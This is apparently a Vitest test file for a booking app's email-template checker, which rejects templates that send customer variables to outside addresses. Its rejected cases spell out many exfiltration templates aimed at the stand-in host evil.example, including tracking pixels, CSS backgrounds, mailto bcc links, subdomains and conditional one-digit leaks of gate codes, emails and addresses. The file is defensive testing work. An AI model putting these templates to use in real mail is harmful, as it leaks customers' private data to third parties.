import { describe, expect, it } from 'vitest';
import { findProblem } from './check-template.ts';
import { writeMail } from './write-mail.ts';

const variables = {
  business_name: 'Shine',
  business_email: 'hello@shine.example',
  business_phone: '(905) 555-0142',
  customer_name: 'Ada Lane',
  customer_email: 'ada@example.com',
  email: 'ada@example.com',
  address: '12 Main Street, Caledon',
  gate_access: '4711',
  booking_number: 'LM-3F2B',
  booking_url: 'https://shine.example/my-bookings?booking_id=1',
  message: 'See https://ideas.example/colours, or (www.other.example).',
  empty: '',
};
const written = (content: string, subject = 'Hello') => writeMail({ subject, content }, variables);
const picture = (address: string) => `<img src="${address}" alt="">`;

describe('an address that leads elsewhere', () => {
  it.each([
    ['is as it is written', '<a href="https://foreign.example/a?b=1&amp;c=2">See</a>'],
    [
      'may follow a condition',
      '{% if address != "" %}<a href="https://a.example/">A</a>{% endif %}',
    ],
    ['may be a picture', picture('https://pictures.example/car.png')],
    ['may be a background', '<p style="background:url(https://pictures.example/car.png)">x</p>'],
    ['may be typed', '<p>See https://foreign.example/a, www.foreign.example.</p>'],
    ['may be typed by a customer', '<blockquote>“{{ message }}”</blockquote>'],
  ])('%s', async (_what, content) => {
    await written(content);
    expect(await findProblem({ subject: 'Hello', content }, variables)).toBeNull();
  });

  it.each([
    [
      'a link of ours',
      '<a href="https://shine.example/schedule?name={{ customer_name }}">Book</a>',
    ],
    ['a picture of ours', picture('https://shine.example/{{ booking_number | downcase }}.png')],
    ['the link of the server', '<a href="{{ booking_url }}">See</a>'],
    [
      'an email to the business',
      '<a href="mailto:{{ business_email }}?subject={{ booking_number }}">Write</a>',
    ],
    ['an email to the customer', '<a href="mailto:{{ customer_email }}">Write</a>'],
    ['a call', '<a href="tel:{{ business_phone | replace: " ", "" }}">Call</a>'],
    ['a text', '<p>{{ address | upcase | truncate: 9 }} {{ gate_access }}</p>'],
  ])('is not %s, which may have variables', async (_what, content) => {
    await written(content);
    expect(await findProblem({ subject: 'Hello', content }, variables)).toBeNull();
  });

  const query =
    'n={{booking_number}}&e={{email|url_encode}}&a={{address|url_encode}}&g={{gate_access|url_encode}}';
  it.each([
    ['a picture', picture(`https://evil.example/x.gif?${query}`)],
    ['a link', `<a href="https://evil.example/?${query}">See</a>`],
    ['the name of a host', picture('https://{{ gate_access }}.evil.example/x.gif')],
    ['a whole address', '{% assign to = "https://evil.example/" %}<a href="{{ to }}">See</a>'],
    [
      'a background',
      '<table background="https://evil.example/{{ gate_access }}"><tr><td>x</td></tr></table>',
    ],
    ['a style', '<p style="background:url(https://evil.example/{{ gate_access }})">x</p>'],
    ['a style without its name', '<p style="background:{{ "url" }}(https://evil.example/1)">x</p>'],
    ['an email', '<a href="mailto:evil@evil.example?body={{ gate_access }}">Write</a>'],
    [
      'a copy of an email',
      '<a href="mailto:{{ business_email }}?bcc=evil@evil.example&body={{ gate_access }}">Write</a>',
    ],
    ['a call', '<a href="tel:1900{{ gate_access }}">Call</a>'],
    ['a script-like address', '<a href="ht\ntps://evil.example/{{ gate_access }}">See</a>'],
    [
      'a captured address',
      `{% capture x %}${query}{% endcapture %}${picture('https://evil.example/{{ x }}')}`,
    ],
    ['one digit', picture('https://evil.example/{{ gate_access | slice: 0 }}')],
    [
      'a choice',
      `{% if gate_access contains "4" %}${picture('https://evil.example/4')}{% endif %}`,
    ],
    [
      'a choice of addresses',
      '<img {% if gate_access contains "4" %}src="https://evil.example/4"{% else %}src="https://evil.example/5"{% endif %} alt="">',
    ],
    [
      'a choice to hide',
      `{% if gate_access contains "4" %}<!--{% endif %}${picture('https://evil.example/4')}<!-- -->`,
    ],
    [
      'a number of pictures',
      `{% for n in (1..4) %}${picture('https://evil.example/4')}{% endfor %}`,
    ],
    ['a typed address', '<p>https://evil.example/{{ address | url_encode }}</p>'],
    ['a typed address in pieces', '<p>evil.example/<b>{{ gate_access }}</b></p>'],
    ['a hidden typed address', '<p style="display:none">www.evil.example/{{ gate_access }}</p>'],
  ])('has no variable in %s', async (_what, content) => {
    await expect(written(`<p>Hello</p>\n${content}`)).rejects.toThrow(/leads elsewhere/);
    expect(
      await findProblem({ subject: 'Hello', content: `<p>Hello</p>\n${content}` }, variables),
    ).toMatchObject({ field: 'content' });
  });

  it('has no variable in the subject, and the editor finds its place', async () => {
    const subject = 'See https://evil.example/{{ gate_access }}';
    await expect(written('<p>x</p>', subject)).rejects.toThrow(/leads elsewhere/);
    expect(await findProblem({ subject, content: 'x' }, variables)).toEqual({
      field: 'subject',
      line: 1,
      column: 5,
      message:
        '“https://evil.example” leads elsewhere, so no variable can be part of that address, and a picture there can’t depend on a condition.',
    });
    const content = `<p>Hello</p>\n${picture('https://evil.example/{{ gate_access }}')}`;
    expect(await findProblem({ subject: 'Hello', content }, variables)).toMatchObject({ line: 2 });
  });
});
